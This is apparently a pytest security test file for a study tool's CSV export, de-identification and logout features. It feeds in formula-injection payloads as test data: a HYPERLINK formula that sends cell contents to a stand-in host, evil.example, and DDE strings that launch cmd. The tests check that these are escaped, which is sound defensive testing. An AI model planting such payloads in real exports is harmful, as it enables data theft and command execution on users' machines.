"""Issue 19, item 7: spreadsheet formulas in CSV exports, the client's model name under
``--deidentify``, and logout ending the participant-page session on the server."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
from typer.testing import CliRunner

from flowtrial.cli import app as cli
from flowtrial.instrumentation.participant_page import COOKIE, PREFIX
from flowtrial.study.tasks import add_task
from tests.security.conftest import bearer, csrf_of, login, make_study, proxy_client

FORMULA_MODEL = '=HYPERLINK("https://evil.example/?"&A1,"click")'


def test_csv_export_neutralises_formulas_and_deidentify_covers_model(tmp_path: Path) -> None:
    s = make_study(tmp_path)
    with proxy_client(s) as c:
        for model in (FORMULA_MODEL, "+cmd|' /C calc'!A0", "flowtrial-sim-1"):
            r = c.post("/v1/chat/completions", headers=bearer(s.keys["p01"]), json={
                "model": model, "max_tokens": 4, "messages": [{"role": "user",
                                                               "content": "hi"}]})
            assert r.status_code == 200
    add_task(s.database, "p01", "@SUM(1+1)*cmd|' /C calc'!A0", description="-2+3")

    out = tmp_path / "plain"
    r = CliRunner().invoke(cli, ["export", "--db", str(s.db), "--out", str(out)])
    assert r.exit_code == 0, r.output
    for path in out.glob("*.csv"):
        with path.open(newline="", encoding="utf-8") as f:
            for row in csv.reader(f):
                for cell in row:
                    # A number may be negative; no text cell may start a formula.
                    if cell and cell[0] in "=+-@\t\r":
                        float(cell)  # raises for text: a formula would have got through
    models = set(pd.read_csv(out / "cycles.csv")["model"])
    assert "'" + FORMULA_MODEL in models and "flowtrial-sim-1" in models
    tasks = pd.read_csv(out / "tasks.csv")
    assert tasks["name"][0].startswith("'@") and tasks["description"][0] == "'-2+3"
    # Parquet keeps values exactly (no spreadsheet reads it as formulas).
    r = CliRunner().invoke(cli, ["export", "--db", str(s.db), "--out", str(tmp_path / "pq"),
                                 "--format", "parquet"])
    assert FORMULA_MODEL in set(pd.read_parquet(tmp_path / "pq" / "cycles.parquet")["model"])

    deid = tmp_path / "deid"
    r = CliRunner().invoke(cli, ["export", "--db", str(s.db), "--out", str(deid),
                                 "--deidentify"])
    assert r.exit_code == 0, r.output
    models = pd.read_csv(deid / "cycles.csv")["model"]
    assert all(str(m).startswith("h_") for m in models) and models.nunique() == 3
    assert "HYPERLINK" not in (deid / "cycles.csv").read_text()
    s.database.dispose()


def test_logout_revokes_the_session_on_the_server(tmp_path: Path) -> None:
    s = make_study(tmp_path)
    with proxy_client(s) as c:
        csrf = login(c, s.keys["p01"])
        stolen = c.cookies.get(COOKIE)
        assert stolen
        r = c.post(f"{PREFIX}/logout", data={"csrf": csrf})
        assert r.status_code == 303 and r.headers["location"].endswith("m=loggedout")
        c.cookies.clear()
        # A copy of the cookie taken before the logout no longer opens the page.
        c.cookies.set(COOKIE, stolen, path=PREFIX)
        home = c.get(f"{PREFIX}/")
        assert home.status_code == 303 and home.headers["location"].endswith("/login")
        # Logging in again gives a new, working session.
        c.cookies.clear()
        login(c, s.keys["p01"])
        assert c.get(f"{PREFIX}/").status_code == 200
        assert csrf_of(c, f"{PREFIX}/")
    s.database.dispose()
